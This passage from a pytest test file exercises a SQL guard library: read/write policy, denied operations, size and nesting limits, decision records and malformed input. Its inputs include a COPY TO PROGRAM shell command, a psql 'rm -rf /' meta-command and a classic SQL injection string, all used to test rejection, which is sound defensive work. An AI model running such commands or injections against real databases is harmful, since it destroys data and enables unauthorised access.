    pytest.param("do $$ begin perform 1; end $$", "reject", "cannot be checked", id="do-block"),
    pytest.param("copy users to program 'id'", "reject", "PROGRAM", id="copy-program"),
    pytest.param("copy users to stdout", "allow", None, id="copy-to-stdout"),
    pytest.param("listen channel", "reject", "not recognised", id="unrecognised-command"),
]


@pytest.mark.parametrize(("sql", "verdict", "needle"), READ_WRITE_CASES)
def test_read_write_policy(sql: str, verdict: str, needle: str | None) -> None:
    decision = WRITE_GUARD.check(sql)
    assert decision.verdict == verdict, decision.reasons
    if needle is not None:
        _assert_rejected(decision, needle)


CUSTOM_DENY_CASES = [
    pytest.param(frozenset({"INSERT"}), "insert into users values (1)", "reject", id="insert-denied"),
    pytest.param(frozenset({"INSERT"}), "delete from users", "allow", id="delete-no-longer-denied"),
    pytest.param(frozenset({"insert"}), "INSERT INTO users VALUES (1)", "reject", id="lower-case-operation-name"),
    pytest.param(frozenset(), "drop table users", "allow", id="nothing-denied"),
    pytest.param(frozenset({"CREATE"}), "select * into t from users", "reject", id="select-into-counts-as-create"),
]


@pytest.mark.parametrize(("denied", "sql", "verdict"), CUSTOM_DENY_CASES)
def test_custom_denied_operations(denied: frozenset[str], sql: str, verdict: str) -> None:
    decision = check_sql(sql, SqlPolicy(denied_operations=denied, read_only=False))
    assert decision.verdict == verdict, decision.reasons


# --- size and nesting limits ---------------------------------------------------------------------


def test_size_limit_counts_utf8_bytes() -> None:
    sql = "select 'ééééé'"  # 14 characters, 19 bytes
    assert check_sql(sql, SqlPolicy(max_bytes=19)).allowed
    _assert_rejected(check_sql(sql, SqlPolicy(max_bytes=18)), "SQL is 19 bytes, over the limit of 18 bytes")


def test_default_size_limit() -> None:
    _assert_rejected(check_sql("select '" + "a" * 100_000 + "'"), "over the limit of 100000 bytes")


DEEP_CASES = [
    pytest.param("select " + "(" * 5000 + "1" + ")" * 5000, "nested too deeply", id="5000-parentheses"),
    pytest.param(
        "select * from users where id in " + "(select id from users where id in " * 5000 + "(1)" + ")" * 5000,
        "nested too deeply",
        id="5000-subqueries",
    ),
    pytest.param("select " + "array[" * 300 + "1" + "]" * 300, "nested too deeply", id="300-arrays"),
    pytest.param("select " + "(" * 33 + "1" + ")" * 33, "33 levels of brackets, the limit is 32", id="33-parentheses"),
    pytest.param("select " + "not " * 5000 + "true", "nested too deeply", id="5000-nots"),
    pytest.param("select " + "case when true then " * 2000 + "1" + " end" * 2000, "nested too deeply", id="2000-cases"),
]


@pytest.mark.parametrize(("sql", "needle"), DEEP_CASES)
def test_deep_nesting_is_rejected_without_crash(sql: str, needle: str) -> None:
    _assert_rejected(check_sql(sql, SqlPolicy(max_bytes=10_000_000)), needle)


def test_moderate_nesting_is_fine() -> None:
    sql = "select * from users where id in " + "(select id from users where id in " * 10 + "(1)" + ")" * 10
    decision = DEMO_GUARD.check(sql)
    assert decision.allowed, decision.reasons
    assert decision.tables == ("users",)


def test_long_flat_expression_is_fine() -> None:
    assert check_sql("select " + "1 + " * 20_000 + "1").allowed


# --- decision records and the public API ---------------------------------------------------------


STATEMENT_KINDS = [
    pytest.param("select 1", "select", id="select"),
    pytest.param("with a as (select 1) select * from a", "select", id="cte"),
    pytest.param("select 1 union select 2", "union", id="union"),
    pytest.param("select 1 intersect select 2", "intersect", id="intersect"),
    pytest.param("select 1 except select 2", "except", id="except"),
    pytest.param("values (1)", "values", id="values"),
    pytest.param("insert into users values (1)", "insert", id="insert"),
    pytest.param("delete from users", "delete", id="delete"),
    pytest.param("vacuum", "vacuum", id="command"),
    pytest.param("select 1; select 2", "multiple", id="multiple"),
    pytest.param("select from where", None, id="unparseable"),
    pytest.param("", None, id="empty"),
]


@pytest.mark.parametrize(("sql", "kind"), STATEMENT_KINDS)
def test_statement_kind(sql: str, kind: str | None) -> None:
    assert check_sql(sql).statement_kind == kind


def test_to_dict() -> None:
    decision = DEMO_GUARD.check("select * from secrets join users on true")
    assert decision.to_dict() == {
        "verdict": "reject",
        "reasons": [f"table 'secrets' {NOT_ALLOWED_TABLE}"],
        "tables": ["secrets", "users"],
    }
    assert DEMO_GUARD.check("select 1").to_dict() == {"verdict": "allow", "reasons": [], "tables": []}


def test_reasons_are_deduplicated() -> None:
    decision = DEMO_GUARD.check("select * from secrets s1 join secrets s2 on true")
    assert decision.reasons == (f"table 'secrets' {NOT_ALLOWED_TABLE}",)


def test_enforce_raises_sql_rejected_with_reasons() -> None:
    with pytest.raises(SqlRejected) as info:
        DEMO_GUARD.enforce("select pg_sleep(1) from secrets")
    assert info.value.reasons == [
        "function pg_sleep is not allowed",
        f"table 'secrets' {NOT_ALLOWED_TABLE}",
    ]
    assert "function pg_sleep is not allowed" in str(info.value)


def test_enforce_returns_decision_when_allowed() -> None:
    decision = DEMO_GUARD.enforce("select count(*) from users")
    assert decision == SqlDecision("allow", (), ("users",), "select")


def test_check_sql_uses_default_policy() -> None:
    assert check_sql("select * from anything").allowed
    assert not check_sql("drop table anything").allowed


def test_guard_default_policy() -> None:
    assert SqlGuard().policy == SqlPolicy()


def test_decisions_are_frozen() -> None:
    decision = check_sql("select 1")
    with pytest.raises(AttributeError):
        decision.verdict = "reject"  # type: ignore[misc]


GARBAGE = [
    pytest.param("\ud800", id="lone-surrogate"),
    pytest.param(b"select 1", id="bytes"),
    pytest.param(None, id="none"),
    pytest.param(")))(((", id="unbalanced"),
    pytest.param("select \\", id="backslash"),
    pytest.param("'" * 1001, id="many-quotes"),
    pytest.param("$$", id="open-dollar-quote"),
    pytest.param("/* unterminated", id="unterminated-comment"),
    pytest.param("\\! rm -rf /", id="psql-meta-command"),
    pytest.param("select 1 from users where id = 'x' or '1'='1' union select null", id="classic-injection-shape"),
]


@pytest.mark.parametrize("sql", GARBAGE)
def test_check_never_raises(sql: object) -> None:
    decision = DEMO_GUARD.check(sql)  # type: ignore[arg-type]
    assert decision.verdict in ("allow", "reject")
    assert not any("could not be checked" in reason for reason in decision.reasons), decision.reasons
    if decision.verdict == "reject":
        assert decision.reasons
